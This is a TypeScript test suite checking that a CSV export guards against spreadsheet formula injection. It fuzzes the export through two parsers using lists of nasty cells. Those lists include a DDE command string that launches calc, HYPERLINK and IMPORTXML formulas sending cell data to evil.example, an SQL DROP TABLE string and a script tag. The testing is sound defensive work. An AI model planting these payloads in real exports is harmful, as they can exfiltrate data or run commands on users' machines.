import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse as parseStrictly } from 'csv-parse/sync';
import fc from 'fast-check';
import Papa from 'papaparse';
import { BYTE_ORDER_MARK, csvLine } from '../../../worker/domain/csv.ts';

/** Two parsers that share no code. */
const PARSERS: Readonly<Record<string, (text: string) => string[][]>> = {
  papaparse: (text) => Papa.parse<string[]>(text, { newline: '\r\n', delimiter: ',', skipEmptyLines: false }).data,
  'csv-parse': (text) => parseStrictly(text, { record_delimiter: '\r\n', bom: false, relax_column_count: false }),
};

const parse = (name: string, text: string) =>
  (PARSERS[name]?.(text) ?? []).filter((row) => row.length > 1 || row[0] !== '');

/** What a reader does who wants the words back. */
const unguarded = (cell: string) => cell.replace(/^'/, '');

/** What spreadsheets take for the beginning of a formula, whatever blanks stand before it. */
const isFormula = (cell: string) => /^(?:\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell);

const BEGINNINGS = [
  '',
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  "'",
  "'=",
  '"',
  '""',
  ' =',
  '\u00a0+',
];
const ENDINGS = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"жми")',
  '1+1',
  'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '"; DROP TABLE appeals; --',
  '","=1+1","',
  '"\r\n"=1+1"',
  ';=1+1;',
  'строка\nвторая\r\nтретья\rчетвёртая',
  '\u202eabc',
  '\ufeff=1',
  'Ә Ғ Қ Ң Ө Ұ Ү Һ І',
  '👩‍👩‍👧 ﷽ Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
  '<script>alert(1)</script>',
  '000123',
  '1e5',
  '\u0000\u0001\u007f',
];
const NASTY = BEGINNINGS.flatMap((beginning) => ENDINGS.map((ending) => beginning + ending));

describe('a table for spreadsheets', () => {
  it('is tried on three hundred nasty cells', () => assert.ok(NASTY.length >= 300));

  for (const name of Object.keys(PARSERS)) {
    it(`comes back from ${name} exactly, once the guard is taken off, and holds no formula`, () => {
      const rows = NASTY.map((cell, i) => [String(i), cell, 'end']);
      const found = parse(name, rows.map(csvLine).join(''));
      assert.equal(found.length, rows.length);
      for (const [i, row] of found.entries()) {
        assert.deepEqual(row.filter(isFormula), [], JSON.stringify(row));
        assert.deepEqual(row.map(unguarded), rows[i]);
      }
    });

    it(`comes back from ${name} whatever anybody writes`, () => {
      const cell = fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.tuple(fc.constantFrom(...BEGINNINGS), fc.string()).map((parts) => parts.join('')),
        fc.constantFrom(...NASTY),
      );
      fc.assert(
        fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 20 }), (rows) => {
          const found = parse(name, rows.map(csvLine).join(''));
          assert.deepEqual(found.flat().filter(isFormula), []);
          assert.deepEqual(
            found.map((row) => row.map(unguarded)),
            rows.filter((row) => row.length > 1),
          );
        }),
      );
    });
  }

  it('would hold formulas without the guard', () => {
    const bare = NASTY.map((cell) => `"0","${cell.replaceAll('"', '""')}"\r\n`).join('');
    assert.ok(parse('papaparse', bare).flat().some(isFormula));
  });

  it('quotes every cell, so that no separator of any country ends one', () => {
    assert.equal(csvLine(['a;b', 'c,d', 'e"f']), '"a;b","c,d","e""f"\r\n');
    assert.equal(BYTE_ORDER_MARK, '\ufeff');
  });
});
